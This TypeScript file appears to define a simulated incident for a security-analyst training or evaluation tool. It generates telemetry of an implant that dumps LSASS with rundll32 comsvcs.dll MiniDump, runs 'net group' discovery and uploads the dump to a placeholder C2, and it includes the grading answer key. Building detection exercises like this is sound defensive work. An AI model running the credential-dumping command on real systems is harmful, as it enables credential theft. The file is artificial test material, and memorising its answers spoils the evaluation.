// Scenario: an implant already running on a Sales workstation (from an earlier, unnoticed
// download) does discovery, then dumps LSASS with comsvcs.dll MiniDump and uploads the dump.
// Look-alike: the Qualys agent reading LSASS on servers during its scan.
import { IMAGES, sha256For } from '../core/binaries.js';
import { MINUTE } from '../core/events.js';
import { USER_AGENTS } from '../core/internet.js';
import { launch } from '../activity/process.js';
import { webRequest } from '../activity/web.js';
import { fileCreate, processAccess } from '../sources/sysmon.js';
import { ACTIONS, Story } from './story.js';
import { at, pickSession } from './common.js';
import { qualysLsassScan, supplierMacroMail } from './lookalikes.js';
import type { Scenario } from './types.js';

const C2 = 'telemetry.cloud-sync-api.net';
const C2_IP = '203.0.113.131';

export const lsassCredentialDump: Scenario = {
  id: 'lsass-credential-dump',
  version: '1.0.0',
  title: 'LSASS dumped with comsvcs.dll on a Sales workstation',
  summary: 'An implant runs discovery, dumps LSASS memory with rundll32 comsvcs MiniDump and uploads the dump.',
  difficulty: 'medium',
  techniques: ['T1003.001', 'T1218.011', 'T1033', 'T1087.002', 'T1041'],
  start: '2026-03-12T00:00:00Z',
  hours: 24,
  build(ctx, sessions) {
    const { org, rng, world } = ctx;
    const s = new Story(org);
    const day = ctx.start;
    const t0 = at(day, 13, 4, 51);
    const victim = pickSession(rng, sessions, t0, (u) => u.department === 'Sales');
    s.involve(victim.user);
    const st = world.state(victim.host);
    const implantPath = `C:\\ProgramData\\Intel\\igfxTray.exe`;
    const tImplant = victim.start + 90_000;
    const implant = st.spawn(victim.explorer, implantPath, `"${implantPath}"`, tImplant, { contentLabel: 'lsass-implant' });
    launch(ctx, implant, tImplant, s.emit, { key: 'implant-start' });
    const implantSha = sha256For(implantPath, 'lsass-implant');
    for (let t = tImplant + 30_000, first = true; t < Math.min(victim.end, at(day, 17, 0)); t += 5 * MINUTE + rng.int(0, 60_000), first = false) {
      webRequest(ctx, implant, t, { domain: C2, dstIp: C2_IP, path: '/v1/telemetry', method: 'POST', userAgent: USER_AGENTS.edge,
        bytesOut: rng.int(500, 900), bytesIn: rng.int(200, 400), contentType: 'application/json', category: 'Uncategorized',
        resolve: first, connect: true }, s.emit);
    }
    const cmd = st.spawn(implant, IMAGES.cmd, 'cmd.exe /c', t0, { integrity: 'High' });
    launch(ctx, cmd, t0, s.emit);
    const run = (offset: number, image: string, line: string, key?: string) => {
      const p = st.spawn(cmd, image, line, t0 + offset);
      launch(ctx, p, t0 + offset, s.emit, key ? { key } : {});
      return p;
    };
    run(4_000, IMAGES.whoami, 'whoami /priv');
    run(11_000, IMAGES.net, 'net group "Domain Admins" /domain');
    run(19_000, IMAGES.net, 'net localgroup administrators');
    const dumpPath = 'C:\\ProgramData\\Intel\\gfx.tmp';
    const tDump = t0 + 61_000;
    const rundll = run(61_000, IMAGES.rundll32, `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${st.lsass.pid} ${dumpPath} full`, 'minidump');
    s.alert('lsass_dump_tool', 'minidump', 'true_positive', 'rundll32 comsvcs.dll MiniDump of LSASS: credential theft.', { withSecurity: true });
    s.add(processAccess(rundll, st.lsass, tDump + 300, '0x1fffff',
      'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+3a1f7|C:\\Windows\\System32\\rundll32.exe+3bc4'), 'lsass-open');
    s.alert('lsass_access', 'lsass-open', 'true_positive', 'rundll32.exe opened lsass.exe with full access to dump it.');
    s.add(fileCreate(rundll, tDump + 2600, dumpPath), 'dump-file');
    webRequest(ctx, implant, tDump + 95_000, { domain: C2, dstIp: C2_IP, path: '/v1/upload', method: 'POST', userAgent: USER_AGENTS.edge,
      bytesOut: 48_233_412, bytesIn: 210, contentType: 'application/octet-stream', category: 'Uncategorized', resolve: false }, s.emit, 'upload');
    run(140_000, IMAGES.cmd, `cmd.exe /c del ${dumpPath}`);

    qualysLsassScan(ctx, s, at(day, 3, 12, 5), [org.fileServer, org.servers.find((h) => h.role === 'sql_server')!]);
    supplierMacroMail(ctx, s, sessions, at(day, 10, 2, 44));

    const v = victim.user;
    s.verdictAndSeverity('true_positive', 'critical', 'True positive: LSASS memory was dumped and exfiltrated; every credential cached on the host must be considered stolen.');
    s.host('host-victim', 8, victim.host, `${victim.host.name}, where LSASS was dumped.`);
    s.user('user-victim', 4, v, `${v.sam}'s session ran the implant.`);
    s.indicator('ioc-implant', 4, 'file', [implantPath, 'igfxTray.exe'], 'The implant masquerading as an Intel tray tool.');
    s.indicator('ioc-implant-hash', 2, 'hash', [implantSha, implantSha.toLowerCase()], 'SHA-256 of the implant.');
    s.indicator('ioc-dump', 3, 'file', [dumpPath, 'gfx.tmp'], 'The LSASS dump file.');
    s.indicator('ioc-c2', 4, 'domain', [C2], 'C2 domain.');
    s.indicator('ioc-c2-ip', 4, 'ip', [C2_IP], 'C2 address, also where the dump was uploaded.');
    s.technique('T1003.001', 5, 'OS credential dumping: LSASS memory.', ['T1003']);
    s.technique('T1218.011', 2, 'System binary proxy execution: rundll32 (comsvcs.dll).');
    s.technique('T1087.002', 1, 'Domain account discovery (net group "Domain Admins").', ['T1087', 'T1069.002']);
    s.technique('T1041', 2, 'Exfiltration over the C2 channel.');
    s.timeline('tl-discovery', 2, t0 + 4000, 'whoami /priv and net group "Domain Admins" from the implant.', [['whoami', 'net group', 'discovery', 'reconnaissance', 'recon']]);
    s.timeline('tl-dump', 4, tDump, 'LSASS dumped with comsvcs.dll MiniDump.', [['lsass', 'minidump', 'comsvcs', 'dump', 'credential']]);
    s.timeline('tl-upload', 3, tDump + 95_000, `48 MB uploaded to ${C2}.`, [['upload', 'uploaded', 'exfil', 'exfiltration', 'sent', C2_IP]]);
    s.action('act-isolate', 5, `Isolate ${victim.host.name}.`, ACTIONS.isolate([victim.host.name.toLowerCase(), 'host', 'workstation', 'machine', 'endpoint']));
    s.action('act-reset', 5, 'Reset every account that had a session on the host (user, admins, service accounts).', ACTIONS.reset);
    s.action('act-block', 3, `Block ${C2} and ${C2_IP}.`, ACTIONS.block([C2, C2_IP, 'domain', 'ip', 'c2']));
    return {
      events: s.events, verdict: 'true_positive', severity: 'critical', alerts: s.alerts, facts: s.facts, forbidden: s.forbidden,
      summary: `An implant (${implantPath}) in ${v.sam}'s session on ${victim.host.name} beaconed to ${C2} (${C2_IP}) all day. At ${new Date(t0).toISOString().slice(11, 16)} UTC it ran discovery, `
        + `dumped LSASS with rundll32 comsvcs.dll MiniDump to ${dumpPath}, uploaded ~48 MB to the C2 and deleted the dump. Isolate the host, reset every credential cached on it and block the C2. `
        + 'The Qualys agent\'s LSASS reads on the servers are false positives of an over-broad rule.',
    };
  },
};
